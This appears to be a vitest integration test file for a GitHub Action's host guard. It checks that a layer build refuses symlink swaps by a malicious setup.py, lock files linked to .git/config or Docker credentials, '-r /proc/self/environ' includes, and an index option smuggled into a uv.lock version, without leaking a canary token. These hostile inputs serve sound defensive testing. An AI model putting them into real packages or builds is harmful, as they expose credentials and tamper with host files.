/**
 * The host trusts nothing the build or the repository leaves behind (src/host-guard.ts), for real: each
 * attack of issue 21 runs through `node dist/index.js` with real Docker and the GitHub double (a failed
 * run still comments). The run must fail with a message that names the file, no canary string may reach
 * the log, the outputs, the job summary, the comment or anything under RUNNER_TEMP (the layer folder and
 * any zip), and the host folder the attack aimed at must be exactly as it was.
 */
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { extractZip } from '../../src/layer/zip.js';
import { startGitHubDouble, type GitHubDouble } from '../support/github-double.js';
import { runAction, type RunnerResult } from '../support/runner.js';

const CANARY = 'ghs_HostGuardCanary0123456789abcdefABCD';
// The container mirrors a host path in its own /tmp (pip writes through the link there), so the
// folders an attack aims at live right under /tmp, whatever TMPDIR says.
const root = fs.mkdtempSync('/tmp/llr-host-guard-');
let github: GitHubDouble;
beforeAll(async () => {
  github = await startGitHubDouble();
});
afterAll(async () => {
  await github.close();
  fs.rmSync(root, { recursive: true, force: true });
});

let counter = 0;
/** A fresh folder under `root` with these files; a value starting `->` makes a symlink to the rest. */
function folder(name: string, files: Record<string, string>): string {
  const dir = path.join(root, `${name}-${++counter}`);
  fs.mkdirSync(dir);
  for (const [file, content] of Object.entries(files)) {
    const full = path.join(dir, file);
    fs.mkdirSync(path.dirname(full), { recursive: true });
    if (content.startsWith('->')) fs.symlinkSync(content.slice(2), full);
    else fs.writeFileSync(full, content);
  }
  return dir;
}

/** Every path below `dir`, links not followed (readdir's `recursive` descends into linked folders). */
function entries(dir: string, relative = ''): string[] {
  return fs.readdirSync(path.join(dir, relative), { withFileTypes: true }).flatMap((entry) => {
    const name = path.join(relative, entry.name);
    return entry.isDirectory() ? [name, ...entries(dir, name)] : [name];
  });
}

/** Every entry below `dir` (links not followed) with its content or link target: a host folder's state. */
function snapshot(dir: string): Record<string, string> {
  const state: Record<string, string> = {};
  for (const name of entries(dir).sort()) {
    const full = path.join(dir, name);
    const stat = fs.lstatSync(full);
    state[name] = stat.isSymbolicLink()
      ? `-> ${fs.readlinkSync(full)}`
      : stat.isFile()
        ? fs.readFileSync(full, 'utf8')
        : 'dir';
  }
  return state;
}

/** The text of every regular file under `dir` (links not followed), zips extracted. */
async function textUnder(dir: string): Promise<string> {
  const texts: string[] = [];
  for (const name of entries(dir)) {
    const full = path.join(dir, name);
    if (!fs.lstatSync(full).isFile()) continue;
    if (name.endsWith('.zip')) {
      const out = fs.mkdtempSync(path.join(root, 'unzipped-'));
      await extractZip(full, out);
      texts.push(await textUnder(out));
    } else texts.push(fs.readFileSync(full, 'utf8'));
  }
  return texts.join('\n');
}

interface Attack {
  readonly result: RunnerResult;
  /** The failure as the run reports it (the ::error:: line). */
  readonly error: string;
}

/** Runs the action in `dir` as a push would, with a comment step, and checks no canary got out. */
async function attack(
  dir: string,
  inputs: Record<string, string>,
  env: Record<string, string> = {},
): Promise<Attack> {
  const runs = fs.mkdtempSync(path.join(root, 'runner-'));
  const sha = (++counter).toString(16).padStart(40, 'c');
  const result = await runAction(
    runs,
    dir,
    { steps: 'build,smoke-test,comment', 'github-token': github.token, ...inputs },
    {
      GITHUB_API_URL: github.url,
      GITHUB_REPOSITORY: 'acme/layers',
      GITHUB_SHA: sha,
      GITHUB_EVENT_NAME: 'push',
      GITHUB_RUN_ID: '5550021',
      ...env,
    },
  );
  expect(result.status, result.stdout).toBe(1);
  const comments = github.commitComments('acme/layers', sha).map((c) => c.body);
  expect(comments, 'a failed run still comments').toHaveLength(1);
  const places: [string, string][] = [
    ['log', result.stdout],
    ['outputs', JSON.stringify(result.outputs)],
    ['summary', result.summary],
    ['comment', comments.join('\n')],
    ['RUNNER_TEMP (layer folder and zips)', await textUnder(runs)],
  ];
  for (const [where, text] of places) expect(text, where).not.toContain(CANARY);
  const error = /^::error::(.*)$/m.exec(result.stdout)?.[1] ?? '';
  expect(result.summary).toContain('release failed');
  return { result, error };
}

/** An sdist whose setup.py runs `attack` (Python) while pip builds it: a malicious dependency. */
function sdist(dir: string, attackCode: string): void {
  const src = path.join(root, `sdist-${++counter}`, 'evil-1.0');
  fs.mkdirSync(src, { recursive: true });
  fs.writeFileSync(
    path.join(src, 'setup.py'),
    `import os, shutil\nfrom setuptools import setup\n${attackCode}\nsetup(name="evil", version="1.0", py_modules=["evil"])\n`,
  );
  fs.writeFileSync(path.join(src, 'evil.py'), 'X = 1\n');
  fs.writeFileSync(path.join(src, 'PKG-INFO'), 'Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n');
  execFileSync('tar', ['-czf', path.join(dir, 'evil-1.0.tar.gz'), '-C', path.dirname(src), 'evil-1.0']);
}

describe('1. the build replaces a folder the host moves with a link to a host folder', () => {
  it.each([
    ['site-packages', 'python/lib/python3.11/site-packages', ''],
    ['python/', 'python', '/lib/python3.11/site-packages'],
  ])(
    '%s as a link: refused before the pure-install move, the host folder untouched',
    async (_, link, below) => {
      // The host folder the link aims at: a checkout's .git with the persisted token, and more.
      const target = folder('host-target', {
        [`${below.slice(1)}${below ? '/' : ''}config`]: `[http]\n\textraheader = AUTHORIZATION: basic ${CANARY}\n`,
        HEAD: 'ref: refs/heads/main\n',
        'objects/keep': CANARY,
      });
      const before = snapshot(target);
      const dir = folder('ws-move', { 'requirements.txt': './evil-1.0.tar.gz\n' });
      // While pip builds it, setup.py swaps the install folder for a link; pip then installs through the
      // link (into the same path in the container's own /tmp), so the build succeeds.
      sdist(
        dir,
        [
          `layer = "/layer"; link = os.path.join(layer, ${JSON.stringify(link)}); target = ${JSON.stringify(target)}`,
          `os.makedirs(target + ${JSON.stringify(below)}, exist_ok=True)`,
          // setup.py runs more than once (metadata, then the wheel): link once.
          'if not os.path.islink(link):',
          '    shutil.rmtree(link, ignore_errors=True)',
          '    os.makedirs(os.path.dirname(link), exist_ok=True)',
          '    os.symlink(target, link)',
        ].join('\n'),
      );
      const { result, error } = await attack(dir, {
        'layer-name': 'move-attack',
        runtime: 'python3.11',
        'compatible-runtimes': 'python3.11,python3.13',
        'install-args': '--no-build-isolation --no-index',
      });
      expect(error).toContain('After the build in ');
      expect(error).toContain(`"${link}" is a symlink to "${target}", outside the layer`);
      expect(error).toContain('nothing was moved, trimmed or zipped');
      expect(result.stdout).not.toContain('No native code: installed once');
      expect(snapshot(target)).toEqual(before);
    },
  );
});

describe('2. a committed lock file is a link', () => {
  it('Gemfile.lock -> .git/config: refused before any container, the token stays in .git', async () => {
    const dir = folder('ws-ruby-lock', {
      Gemfile: "source 'https://rubygems.org'\n",
      '.git/config': `[http]\n\textraheader = AUTHORIZATION: basic ${CANARY}\n`,
      'Gemfile.lock': '->.git/config',
    });
    const before = snapshot(dir);
    const { result, error } = await attack(dir, { 'layer-name': 'ruby-lock', runtime: 'ruby3.3' });
    expect(error).toMatch(/^Gemfile\.lock leads to "\.git\/config", which is kept from the build/);
    expect(result.stdout).not.toContain('Docker engine');
    expect(snapshot(dir)).toEqual(before);
  });

  it('package-lock.json -> a file outside the workspace (~/.docker/config.json): refused, nothing shipped', async () => {
    const home = folder('home', {
      '.docker/config.json': JSON.stringify({ auths: { x: { auth: CANARY } } }),
    });
    const before = snapshot(home);
    const dir = folder('ws-node-lock', {
      'package.json': JSON.stringify({ name: 'l', version: '1.0.0', private: true }),
      'package-lock.json': `->${home}/.docker/config.json`,
    });
    const { error } = await attack(dir, { 'layer-name': 'node-lock', runtime: 'nodejs18.x' });
    expect(error).toMatch(
      /^package-lock\.json is a symlink to ".*\/\.docker\/config\.json", which is outside working-directory/,
    );
    expect(snapshot(home)).toEqual(before);
  });
});

describe('2b. a Python lock is data from the repository (issue 30)', () => {
  const PYPROJECT = '[project]\nname = "app"\nversion = "0.1"\ndependencies = ["greeting"]\n';
  const lock = (greeting: string): string =>
    `version = 1\nrevision = 2\n\n[[package]]\nname = "app"\nversion = "0.1"\nsource = { editable = "." }\n` +
    `dependencies = [{ name = "greeting" }]\n\n[package.metadata]\nrequires-dist = [{ name = "greeting" }]\n\n` +
    `[[package]]\nname = "greeting"\n${greeting}\n`;

  it('a path source that leads out of working-directory: refused by file and line before any container', async () => {
    const outside = folder('outside-wheel', { 'greeting-1.0-py3-none-any.whl': CANARY });
    const before = snapshot(outside);
    const dir = folder('ws-uv-path', {
      'pyproject.toml': PYPROJECT,
      'uv.lock': lock('version = "1.0"\nsource = { path = "vendor/greeting-1.0-py3-none-any.whl" }'),
      vendor: `->${outside}`,
    });
    const { result, error } = await attack(dir, { 'layer-name': 'uv-path', runtime: 'python3.11' });
    expect(error).toMatch(
      /^uv\.lock line 13: a path source resolves to a path that is outside working-directory/,
    );
    expect(result.stdout).not.toContain('Building the layer');
    expect(snapshot(outside)).toEqual(before);
  });

  it('an index option smuggled into a version: refused by file and line, never quoted, never given to pip', async () => {
    const dir = folder('ws-uv-inject', {
      'pyproject.toml': PYPROJECT,
      'uv.lock': lock(
        `version = "1.0 --index-url=https://${CANARY}.invalid/simple"\nsource = { registry = "https://pypi.org/simple" }`,
      ),
    });
    const { result, error } = await attack(dir, { 'layer-name': 'uv-inject', runtime: 'python3.11' });
    expect(error).toMatch(/^uv\.lock line 13: the version is not valid/);
    expect(result.stdout).not.toContain('Building the layer');
  });
});

describe('3. requirements includes are read on the host', () => {
  it('-r /proc/self/environ: refused by file and line; the environment is never printed', async () => {
    const dir = folder('ws-environ', { 'requirements.txt': 'six==1.16.0\n-r /proc/self/environ\n' });
    const { error } = await attack(
      dir,
      { 'layer-name': 'environ', runtime: 'python3.11' },
      // What the runner's environment holds: every token the issue saw printed.
      {
        GITHUB_TOKEN: CANARY,
        ACTIONS_RUNTIME_TOKEN: CANARY,
        ACTIONS_ID_TOKEN_REQUEST_TOKEN: CANARY,
        AWS_SECRET_ACCESS_KEY: CANARY,
      },
    );
    expect(error).toMatch(/^requirements\.txt line 2 includes a file outside working-directory\./);
  });

  it('-r of a file that is a link out of the working directory: refused by file and line', async () => {
    const outside = folder('outside', { 'secret.txt': `${CANARY}==1.0\n` });
    const dir = folder('ws-include', {
      'requirements.txt': '# shared pins\n-c constraints.txt\n',
      'constraints.txt': `->${outside}/secret.txt`,
    });
    const { error } = await attack(dir, { 'layer-name': 'include', runtime: 'python3.11' });
    expect(error).toMatch(/^requirements\.txt line 2 includes a file outside working-directory\./);
  });
});

describe('4. Ruby trim: the gems folder as a link, a FIFO named like a shared object', () => {
  it('gems/3.3.0 -> a host folder: refused before trim deletes its cache/ and doc/', async () => {
    const target = folder('gem-home', { 'cache/keep.gem': CANARY, 'doc/keep.html': CANARY, 'gems/x': '' });
    const before = snapshot(target);
    const dir = folder('ws-ruby-trim', { 'lib.rb': 'X = 1\n' });
    const { error } = await attack(dir, {
      'layer-name': 'ruby-trim',
      runtime: 'ruby3.3',
      trim: 'true',
      'build-command': `mkdir -p "$LAYER_DIR/ruby/gems" && ln -s ${target} "$LAYER_DIR/ruby/gems/3.3.0"`,
    });
    expect(error).toContain(`"ruby/gems/3.3.0" is a symlink to "${target}", outside the layer`);
    expect(snapshot(target)).toEqual(before);
  });

  // Opening the FIFO to read it would block for ever: the run ending at all (within the test's timeout)
  // is the check that it was not opened. The time to the refusal is printed, not asserted.
  it('a FIFO named x.so: refused without being opened, so the job does not hang', async () => {
    const dir = folder('ws-fifo', { 'lib.rb': 'X = 1\n' });
    const started = Date.now();
    const { error } = await attack(dir, {
      'layer-name': 'ruby-fifo',
      runtime: 'ruby3.3',
      trim: 'true',
      'build-command': [
        'gems="$LAYER_DIR/ruby/gems/3.3.0/gems/fast-1.0/lib"',
        'mkdir -p "$gems" && echo "X = 1" > "$gems/fast.rb" && mkfifo "$gems/x.so"',
      ].join('\n'),
    });
    expect(error).toContain('"ruby/gems/3.3.0/gems/fast-1.0/lib/x.so" is a FIFO (named pipe)');
    console.log(`FIFO run refused after ${((Date.now() - started) / 1000).toFixed(1)} s`);
  });
});
